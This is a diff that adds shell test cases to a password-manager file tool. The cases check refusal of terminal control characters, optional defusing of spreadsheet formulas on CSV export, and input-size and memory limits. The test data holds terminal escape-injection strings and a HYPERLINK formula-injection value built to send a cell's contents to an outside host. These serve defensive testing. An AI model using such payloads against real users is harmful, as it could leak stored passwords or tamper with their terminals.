@@ -158,6 +158,66 @@ Zeilen",u,p_|,h,中' \
             fail "a file of version $version was touched"
     done
     ;;
+terminal_safe)
+    # Names and cells go into messages: their control characters must not reach the terminal.
+    cat >"$work/request" <<'JSON'
+{"password": "pw", "records": ["_E__|_FTP_|_\u001b]2;pwned\u0007\u001b[2J\u009d31m_|__|_u_|_p_|_h_|_"]}
+JSON
+    write_file "$file" <"$work/request"
+    printf 'pw\n' >"$work/password"
+    run "$work/password" export --format keepass-xml "$file"
+    expect_rc 1
+    grep -qF 'entry 1 ("\x1b]2;pwned\x07\x1b[2J\u009d31m") holds a control character' "$work/err" ||
+        fail "the refusal does not name the entry escaped: $(cat -A "$work/err")"
+    printf '%s\r\n' pw 'Title,Password' $'\e[2Jname,a_|_b' >"$work/import"
+    run "$work/import" import --format csv "$file"
+    expect_rc 2
+    grep -qF 'row 2 "\x1b[2Jname": the column "Password"' "$work/err" ||
+        fail "the import refusal does not name the row escaped: $(cat -A "$work/err")"
+    if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]\\|\xc2[\x80-\x9f]' "$work/err"; then
+        fail "a control character reached standard error: $(cat -A "$work/err")"
+    fi
+    ;;
+spreadsheet_safe)
+    # Lossless by default, as other password managers need it; defused on request.
+    cat >"$work/request" <<'JSON'
+{"password": "pw", "records": ["_E__|_FTP_|_@home_|_=HYPERLINK(\"http://x/?\"&D2)_|_-u_|_+p_|_h_|_"]}
+JSON
+    write_file "$file" <"$work/request"
+    printf 'pw\n' >"$work/password"
+    run "$work/password" export --format csv "$file"
+    expect_rc 0
+    expected_row='FTP,@home,-u,+p,h,"=HYPERLINK(""http://x/?""&D2)",User,Password (*),Host,-u,+p,h,"=HYPERLINK(""http://x/?""&D2)"'
+    [ "$(sed -n 2p "$work/out")" = "$expected_row"$'\r' ] || fail "the lossless export changed a cell: $(sed -n 2p "$work/out")"
+    run "$work/password" export --format csv --spreadsheet-safe "$file"
+    expect_rc 0
+    expected_row="FTP,'@home,'-u,'+p,h,\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\",User,Password (*),Host,'-u,'+p,h,\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\""
+    [ "$(sed -n 2p "$work/out")" = "$expected_row"$'\r' ] || fail "the safe export left a formula: $(sed -n 2p "$work/out")"
+    run "$work/password" export --format keepass-xml --spreadsheet-safe "$file"
+    expect_rc 2
+    ;;
+input_limits)
+    # More than a password file can hold is refused before it is read whole.
+    { printf 'pw\nTitle\r\n'; head -c 67108864 /dev/zero | tr '\0' a; } >"$work/import"
+    run "$work/import" import --format csv "$file"
+    expect_rc 1
+    [ "$(cat "$work/err")" = "kavelmark-file: standard input holds more than 64 MB, more than a password file can take" ] ||
+        fail "unexpected messages: $(cat "$work/err")"
+    [ ! -e "$file" ] || fail "a refused import wrote a file"
+    # Running out of memory on the way is a message, not a crash. The sanitizers reserve
+    # more address space than any limit here leaves.
+    if ldd "$tool" | grep -q 'libasan'; then
+        echo "SKIP: an address space limit and AddressSanitizer do not go together"
+        exit 77
+    fi
+    { printf 'pw\nTitle\r\n'; yes a | head -c 30000000 || true; } >"$work/import"
+    rc=0
+    (ulimit -v 300000 && exec "$tool" import --format csv "$file") <"$work/import" >"$work/out" 2>"$work/err" || rc=$?
+    expect_rc 1
+    [ "$(cat "$work/err")" = "kavelmark-file: out of memory; $file is unchanged" ] ||
+        fail "unexpected messages: $(cat "$work/err")"
+    [ ! -e "$file" ] || fail "an import that ran out of memory wrote a file"
+    ;;
 peer_round_trip)
     if ! command -v keepassxc-cli >/dev/null; then
         echo "SKIP: keepassxc-cli is not installed (bash scripts/install-deps --test installs it)"
